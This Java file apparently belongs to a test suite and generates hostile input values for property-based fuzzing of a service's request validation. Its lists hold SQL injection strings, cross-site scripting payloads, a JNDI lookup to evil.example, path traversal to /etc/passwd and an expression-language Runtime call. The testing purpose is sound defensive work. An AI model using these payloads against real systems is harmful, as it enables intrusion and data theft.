package io.accountsuite.e2e.reliability.hostile;

import java.util.List;
import java.util.Map;
import java.util.UUID;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.Tuple.Tuple2;

import io.accountsuite.e2e.reliability.hostile.JsonText.Raw;

/**
 * The hostile values the generated requests are made of (issue 18): strings empty, blank, huge, with control
 * characters and NUL, Unicode edge cases (RTL override, zero-width, combining marks, lone surrogates, non-characters),
 * SQL and script strings; numbers negative, huge and not numbers at all; values of the wrong JSON type. Each
 * {@code refused…} arbitrary gives only values the named rule of the suite must refuse (README "Text a person
 * typed", {@code PlainText}, {@code EmailShape}, {@code StrictJsonTypes}); {@link #anyString()} also gives values
 * a field may accept (a combining mark in a name), which are never the only hostile part of a request.
 */
public final class HostileValues {

    static final List<String> SQL = List.of("' OR 1=1 --", "'; DROP TABLE customers; --",
            "1' UNION SELECT password_hash FROM customers --", "\" OR \"\"=\"", "%' AND 1=0 --",
            "1; SELECT pg_sleep(5)",
            "admin'--", "') OR ('a'='a");
    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "%00",
            "<svg/onload=alert(1)>", "#{T(java.lang.Runtime).getRuntime()}", "\\u0000");
    static final List<String> UNICODE = List.of("\u202Eevil\u202C", "a\u200Bb", "\uFEFF", "e\u0301\u0301\u0301",
            "\uD800", "x\uDC00y", "\uDBFF\uDFFF", "\uFFFF", "\uFFFE", "😀😀", "\u0645\u0631\u062D\u0628\u0627",
            "\u00A0", "Z\u0351\u0352\u0353\u0354\u0355\u0356", "\u2028", "\u0130i\u0131");
    /** Characters {@code PlainText.isSingleLine} refuses (ISO control), a multi-line text only some of them. */
    static final List<Character> CONTROL = List.of('\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c',
            '\u001b', '\u001f', '\u007f', '\u0085', '\u009b', '\n', '\r', '\t');
    /** Long-string characters that are one UTF-16 unit and one code point, so every length rule counts them alike. */
    private static final List<Character> LONG_CHARS = List.of('x', 'é', 'ж', '中', '\u202E', '\'');

    private HostileValues() {
    }

    /** Any hostile string, accepted by some fields: the pool decorations and extra fields draw from. */
    public static Arbitrary<String> anyString() {
        return Arbitraries.frequencyOf(
                weighted(3, Arbitraries.of(SQL)), weighted(3, Arbitraries.of(SCRIPT)),
                weighted(3, Arbitraries.of(UNICODE)),
                weighted(2, Arbitraries.of("", " ", "\t", "\n", "null", "undefined", "0", "-1", "true")),
                weighted(2, withControl(false)), weighted(1, longerThan(200)),
                weighted(3, Arbitraries.strings().all().ofMaxLength(24)),
                weighted(2, Combinators.combine(Arbitraries.of(SQL), Arbitraries.of(UNICODE)).as(String::concat)));
    }

    private static Tuple2<Integer, Arbitrary<? extends String>> weighted(int weight, Arbitrary<String> values) {
        return Tuple.of(weight, values);
    }

    /** A hostile string with at least one character a single-line (or, when {@code multiLine}, any) text refuses. */
    public static Arbitrary<String> withControl(boolean multiLine) {
        Arbitrary<Character> control = Arbitraries.of(CONTROL)
                .filter(c -> !multiLine || (c != '\n' && c != '\r' && c != '\t'));
        // Inside the text, between visible characters: services strip whitespace (a tab, a line break) at the ends.
        return Combinators.combine(Arbitraries.of(SQL, SCRIPT, UNICODE).flatMap(Arbitraries::of), control)
                .as((text, c) -> text + "a" + c + "a");
    }

    /** A string of more than {@code max} code points (and UTF-16 units), sometimes far more than a body may be. */
    public static Arbitrary<String> longerThan(int max) {
        // Mostly just over the limit; now and then past the 256 KB a body may have (413), rarely: it weighs.
        Arbitrary<Integer> extra = Arbitraries.frequencyOf(Tuple.of(10, Arbitraries.integers().between(1, 60)),
                Tuple.of(4, Arbitraries.of(1_000, 5_000, 20_000)), Tuple.of(1, Arbitraries.just(270_000)));
        // Past the limit in ASCII only: escaped, the others weigh six bytes each, and a body of megabytes is
        // refused (413) while the client still writes it, which it may see as a reset instead of the answer.
        return Combinators.combine(Arbitraries.of(LONG_CHARS), extra)
                .as((c, more) -> String.valueOf(more > 100_000 ? 'x' : c).repeat(max + more));
    }

    /** Blank text: what {@code @NotBlank} and a required field refuse. */
    public static Arbitrary<String> blank() {
        return Arbitraries.of("", " ", "   ", "\t", "\n \n");
    }

    /** What a required single-line text of at most {@code max} characters refuses (strings only). */
    public static Arbitrary<Object> refusedText(int max) {
        return Arbitraries.oneOf(blank(), withControl(false), longerThan(max), withNul()).map(s -> (Object) s);
    }

    /** What a required multi-line text of at most {@code max} characters refuses (strings only). */
    public static Arbitrary<Object> refusedMultiLineText(int max) {
        return Arbitraries.oneOf(blank(), withControl(true), longerThan(max), withNul()).map(s -> (Object) s);
    }

    /** NUL somewhere in a string: refused for every JSON body (TextWithoutNul). */
    public static Arbitrary<String> withNul() {
        return anyString().map(s -> s + "\u0000" + s);
    }

    /** Strings no email rule accepts: no {@code @}, or spaces and control characters around one. */
    public static Arbitrary<Object> refusedEmail() {
        return Arbitraries.oneOf(
                anyString().filter(s -> !s.contains("@")),
                Arbitraries.of("@example.com", "a@b", "a@@b.example", "a b@example.com", "a@-b.example",
                        "a@b..example", "a@example.com\u0000", "<a>\u0007<b>@example.com", "' OR 1=1 --@example.com"),
                longerThan(254).map(s -> s + "@example.com"),
                withControl(false).map(s -> "x" + s.replace("@", "") + "@example.com"))
                .map(s -> (Object) s);
    }

    /** Strings that are not a UUID in any form Jackson reads (36-character text; 24-character base64). */
    public static Arbitrary<Object> malformedUuid() {
        return Arbitraries.oneOf(anyString(), Arbitraries.of("not-an-id", "1", "00000000-0000-0000-0000-00000000000g",
                        "{00000000-0000-0000-0000-000000000000}", UUID.randomUUID() + "0"))
                .filter(s -> !s.isBlank() && s.length() != 24 && !isUuid(s)).map(s -> (Object) s);
    }

    private static boolean isUuid(String text) {
        try {
            UUID.fromString(text);
            return text.length() == 36;
        } catch (IllegalArgumentException e) {
            return false;
        }
    }

    /** Values of another JSON type than a text field's (StrictJsonTypes refuses them). */
    public static Arbitrary<Object> notText() {
        return Arbitraries.oneOf(numbers(), Arbitraries.of(true, false), containers());
    }

    /** Values a yes/no field refuses: anything but {@code true}/{@code false}/null. */
    public static Arbitrary<Object> notBoolean() {
        return Arbitraries.oneOf(numbers(), containers(),
                Arbitraries.of("true", "false", "yes", "1", "on", "TRUE", "").map(s -> (Object) s));
    }

    /** Values a confirmation ({@code confirm: true}) refuses: everything but {@code true}. */
    public static Arbitrary<Object> notTrue() {
        return Arbitraries.oneOf(notBoolean(), Arbitraries.of(false).map(b -> (Object) b),
                Arbitraries.just(null));
    }

    /** Values a number field refuses whatever its bounds: not numbers, or not numbers JSON allows. */
    public static Arbitrary<Object> notNumber() {
        return Arbitraries.oneOf(containers(), Arbitraries.of(true, false),
                Arbitraries.of("NaN", "Infinity", "-Infinity", "abc", "1,5", "0x10", "1e", "١٢", "12 34", "1_000")
                        .map(s -> (Object) s),
                anyString().filter(s -> !s.strip().matches("[-+]?[0-9.eE]*") && !s.isBlank()).map(s -> (Object) s));
    }

    /** Hostile numbers: negative, zero, huge, tiny, with many digits; as JSON numbers or raw literals. */
    public static Arbitrary<Object> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.of(-1, 0, -0.0, Integer.MIN_VALUE, Long.MAX_VALUE, 1e308, -1e308, 4.9e-324)
                        .map(n -> (Object) n),
                Arbitraries.of("1e999999", "-1e999999", "99999999999999999999999999999", "0.000000000000000000001",
                        "1.00000000000000000001", "-0", "2147483648").map(text -> (Object) new Raw(text)),
                Arbitraries.longs().map(n -> (Object) n), Arbitraries.doubles().map(n -> (Object) n));
    }

    /** Arrays and objects where a scalar goes. */
    public static Arbitrary<Object> containers() {
        return Arbitraries.of(List.of(), List.of(1, "two"), Map.of(), Map.of("nested", Map.of("x", List.of())),
                List.of(List.of(List.of())));
    }

    /** An unknown member with a hostile value: extra fields a request may carry. */
    public static Arbitrary<Map.Entry<String, Object>> extraMember() {
        return Combinators.combine(Arbitraries.oneOf(anyString(), Arbitraries.of("__proto__", "constructor",
                                "admin", "roles", "customerId", "id", "status", "@class", "$where")),
                        Arbitraries.oneOf(anyString().map(s -> (Object) s), numbers(), containers()))
                .as(Map::entry);
    }
}
